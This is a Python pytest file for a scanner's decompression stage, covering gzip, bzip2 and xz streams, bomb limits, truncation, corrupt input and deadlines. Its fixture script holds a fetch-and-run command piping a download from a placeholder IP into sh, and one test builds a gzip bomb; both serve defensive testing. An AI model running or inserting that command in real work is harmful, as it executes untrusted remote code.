"""gzip, bzip2 and xz streams: one decompressed child, cut off at its limits with a reason."""

from __future__ import annotations

import bz2
import gzip
import hashlib
import io
import lzma
import random
import tarfile
from typing import Any

import pytest

from inspector.stage import Payload, ScanContext, ScanLimits
from inspector.model import Artifact, ArtifactType
from inspector.unpack.archives import ArchiveLimits, TarUnpacker
from inspector.unpack.compressed import CompressedStreamUnpacker, gzip_name
from tests.timing import frozen_clock

SCRIPT = b"#!/bin/sh\ncurl -s http://203.0.113.9/x | sh\n"


def payload(data: bytes, kind: ArtifactType) -> Payload:
    artifact = Artifact(sha256=hashlib.sha256(data).hexdigest(), size=len(data), type=kind, origin="fileUris[0]")
    return Payload(artifact, data, None)


def ctx(deadline_s: float = 20.0) -> ScanContext:
    return ScanContext(limits=ScanLimits(deadline_s=deadline_s), clock=frozen_clock)  # only 0 s passes


def gzip_with_name(data: bytes, name: str) -> bytes:
    buf = io.BytesIO()
    with gzip.GzipFile(filename=name, mode="wb", fileobj=buf, mtime=0) as stream:
        stream.write(data)
    return buf.getvalue()


@pytest.mark.parametrize("kind, pack, technique", [
    (ArtifactType.GZIP, gzip.compress, "gzip"), (ArtifactType.BZIP2, bz2.compress, "bzip2"),
    (ArtifactType.XZ, lzma.compress, "xz"),
])
def test_each_format_decompresses_to_one_child(kind: ArtifactType, pack: object, technique: str) -> None:
    out = CompressedStreamUnpacker().analyze(payload(pack(SCRIPT), kind), ctx())  # type: ignore[operator]
    [child] = out.children
    assert child.data == SCRIPT and not child.truncated
    assert child.origin == f"{technique}:stream" and child.layer is not None and child.layer.technique == technique
    assert out.errors == []


def test_the_gzip_file_name_becomes_the_origin() -> None:
    data = gzip_with_name(SCRIPT, "install.sh")
    assert gzip_name(data) == "install.sh"
    assert CompressedStreamUnpacker().analyze(payload(data, ArtifactType.GZIP), ctx()).children[0].origin == "gzip:install.sh"


def test_concatenated_gzip_members_are_one_file() -> None:
    data = gzip.compress(b"part one\n") + gzip.compress(b"part two\n")
    assert CompressedStreamUnpacker().analyze(payload(data, ArtifactType.GZIP), ctx()).children[0].data == b"part one\npart two\n"


def test_a_gzip_bomb_is_cut_off_with_a_bounded_prefix() -> None:
    bomb = gzip.compress(b"\0" * (32 * 1024 * 1024))
    limits = ArchiveLimits(max_member_bytes=1024 * 1024, max_total_bytes=2 * 1024 * 1024, max_ratio=100,
                           ratio_floor_bytes=256 * 1024)
    out = CompressedStreamUnpacker(limits).analyze(payload(bomb, ArtifactType.GZIP), ctx())
    assert [kind for kind, _ in out.errors] == ["archive_bomb"]
    assert [f.id for f in out.findings] == ["structure.archive.bomb"]
    [child] = out.children
    assert child.truncated and len(child.data) <= limits.max_member_bytes


def test_a_large_stream_keeps_the_first_part_at_the_member_cap() -> None:
    text = b"".join(b"line %d of a long but honest log\n" % i for i in range(100_000))
    out = CompressedStreamUnpacker(ArchiveLimits(max_member_bytes=64 * 1024)).analyze(
        payload(bz2.compress(text), ArtifactType.BZIP2), ctx())
    [child] = out.children
    assert child.truncated and child.data == text[: 64 * 1024]
    assert [kind for kind, _ in out.errors] == ["archive_member_too_large"]


@pytest.mark.parametrize("kind, data", [
    (ArtifactType.GZIP, gzip.compress(SCRIPT * 200)[:-40]), (ArtifactType.GZIP, b"\x1f\x8b\x08\x00garbage"),
    (ArtifactType.BZIP2, bz2.compress(SCRIPT * 200)[:-20]), (ArtifactType.XZ, b"\xfd7zXZ\x00" + b"\x00" * 30),
])
def test_corrupt_or_truncated_streams_are_errors_not_exceptions(kind: ArtifactType, data: bytes) -> None:
    out = CompressedStreamUnpacker().analyze(payload(data, kind), ctx())
    assert [k for k, _ in out.errors] == ["archive_corrupt"]
    assert all(c.truncated for c in out.children)


def test_the_scan_deadline_stops_decompression() -> None:
    out = CompressedStreamUnpacker().analyze(payload(gzip.compress(SCRIPT), ArtifactType.GZIP), ctx(deadline_s=0))
    assert [k for k, _ in out.errors] == ["deadline"]


def test_a_tar_gz_unpacks_in_two_steps_gzip_then_tar() -> None:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w:gz") as archive:
        info = tarfile.TarInfo("payload/run.sh")
        info.size = len(SCRIPT)
        archive.addfile(info, io.BytesIO(SCRIPT))
    [tar_child] = CompressedStreamUnpacker().analyze(payload(buf.getvalue(), ArtifactType.GZIP), ctx()).children
    [member] = TarUnpacker().analyze(payload(tar_child.data, ArtifactType.TAR), ctx()).children
    assert member.origin == "tar:payload/run.sh" and member.data == SCRIPT


@pytest.mark.parametrize("kind, pack", [
    (ArtifactType.GZIP, gzip.compress), (ArtifactType.BZIP2, bz2.compress), (ArtifactType.XZ, lzma.compress),
])
def test_randomly_damaged_streams_never_raise(kind: ArtifactType, pack: Any) -> None:
    data = pack(SCRIPT * 50)
    rng = random.Random(2026)
    for _ in range(150):
        damaged = bytearray(data)
        for _ in range(rng.randint(1, 6)):
            damaged[rng.randrange(len(damaged))] = rng.randrange(256)
        CompressedStreamUnpacker().analyze(payload(bytes(damaged), kind), ctx())  # must return
